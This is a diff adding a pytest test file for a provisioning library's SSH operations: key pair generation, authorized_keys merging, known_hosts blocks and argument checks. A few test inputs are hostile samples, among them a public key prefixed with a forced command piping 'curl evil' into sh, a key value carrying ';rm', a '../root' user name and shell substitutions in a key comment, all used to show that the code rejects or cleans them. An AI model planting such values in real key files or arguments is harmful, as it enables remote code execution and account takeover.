@@ -1,0 +1,98 @@
+"""SSH key pair, authorized keys and known_hosts operations as data."""
+
+import pytest
+
+from provision.operations import OPERATIONS
+from provision.operations.base import ArgumentError, FactKey, FileState, OperationError, Run, UserEntry, Write
+from provision.operations.ssh import add_keys, keypair_result
+
+ALICE = UserEntry("alice", 2001, 2001, "/home/alice", "/bin/bash")
+K1 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHc0Hf9YtWXxg0kd0Q8H2yAJ3Pj4AB alice@node1"
+K2 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ7MZi5r4mUDn7n8bWqH7TvkUYn9CD alice@node2"
+
+
+def plan(op, args, facts):
+    operation = OPERATIONS[op]
+    return operation.plan(operation.check_args(args), facts)
+
+
+def text_file(text, mode=0o600, owner="alice"):
+    import hashlib
+
+    data = text.encode()
+    return FileState("f", mode, owner, "alice", hashlib.sha256(data).hexdigest(), data)
+
+
+AUTH = FactKey("file", "~alice/.ssh/authorized_keys")
+PRIV, PUB = FactKey("file", "~alice/.ssh/id_ed25519"), FactKey("file", "~alice/.ssh/id_ed25519.pub")
+USER = FactKey("user", "alice")
+
+
+def test_keypair_generated_when_absent():
+    (change,) = plan("ssh_keypair", {"user": "alice"}, {USER: ALICE, PRIV: None, PUB: None})
+    assert isinstance(change, Run)
+    assert "ssh-keygen -q -t ed25519 -N ''" in change.command and "chmod 600" in change.command
+    assert "install -d -m 700 -o alice -g 2001" in change.command
+
+
+def test_existing_keypair_kept():
+    assert plan("ssh_keypair", {"user": "alice"}, {USER: ALICE, PRIV: text_file("secret"), PUB: text_file(K1)}) == []
+
+
+def test_keypair_result_is_the_public_key():
+    assert keypair_result({"user": "alice"}, {PUB: text_file(K1 + "\n")})["public_key"] == K1
+
+
+def test_keypair_needs_the_user():
+    with pytest.raises(OperationError, match="does not exist"):
+        plan("ssh_keypair", {"user": "alice"}, {USER: None})
+
+
+def test_authorized_keys_added_once_other_lines_kept():
+    existing = "# my notes\nfrom=\"10.0.0.1\" " + K1.replace("alice@node1", "old-comment") + "\n"
+    (change,) = plan("authorized_key", {"user": "alice", "keys": [K1, K2, K2]}, {USER: ALICE, AUTH: text_file(existing)})
+    assert isinstance(change, Write) and change.mode == 0o600 and change.owner == "alice"
+    assert change.content.decode() == existing + K2 + "\n"
+
+
+def test_authorized_keys_converged():
+    assert plan("authorized_key", {"user": "alice", "keys": [K1, K2]}, {USER: ALICE, AUTH: text_file(K1 + "\n" + K2 + "\n")}) == []
+
+
+def test_authorized_keys_mode_fixed():
+    (change,) = plan("authorized_key", {"user": "alice", "keys": K1}, {USER: ALICE, AUTH: text_file(K1 + "\n", 0o644)})
+    assert change.command.startswith("chmod 0600")
+
+
+def test_add_keys_keeps_missing_newline():
+    assert add_keys("x", [K1]) == "x\n" + K1 + "\n"
+
+
+def test_known_hosts_block():
+    entries = [{"names": ["node1", "node1.cluster", "10.0.0.1", "node1"], "keys": [K1]}]
+    before = "# user line\nother ssh-rsa AAAA\n"
+    (change,) = plan("known_hosts", {"entries": entries}, {FactKey("file", "/etc/ssh/ssh_known_hosts"): text_file(before, 0o644, "root")})
+    kind, blob = K1.split()[:2]
+    assert change.content.decode() == (before + "# BEGIN provision known hosts\n"
+                                       f"node1,node1.cluster,10.0.0.1 {kind} {blob}\n# END provision known hosts\n")
+    converged = {FactKey("file", "/etc/ssh/ssh_known_hosts"): text_file(change.content.decode(), 0o644, "root")}
+    assert plan("known_hosts", {"entries": entries}, converged) == []
+
+
+@pytest.mark.parametrize("op,args", [
+    ("authorized_key", {"user": "alice", "keys": "not a key"}),
+    ("authorized_key", {"user": "alice", "keys": K1 + "\ncommand=\"x\" " + K2}),
+    ("known_hosts", {"entries": [{"names": ["a b"], "keys": [K1]}]}),
+    ("known_hosts", {"entries": [{"names": ["node1"], "keys": ["ssh-ed25519 AAAA;rm"]}]}),
+    ("ssh_keypair", {"user": "../root"}),
+])
+def test_bad_arguments(op, args):
+    with pytest.raises(ArgumentError):
+        plan(op, args, {USER: ALICE, AUTH: None, FactKey("file", "/etc/ssh/ssh_known_hosts"): None})
+
+
+def test_keypair_result_from_a_hostile_node():
+    hostile = 'command="curl evil|sh" ' + K1
+    assert keypair_result({"user": "alice"}, {PUB: text_file(hostile)})["public_key"] is None
+    odd = K1.replace("alice@node1", "alice@node1 $(x) `y`")
+    assert keypair_result({"user": "alice"}, {PUB: text_file(odd)})["public_key"] == K1.replace("alice@node1", "alice@node1xy")
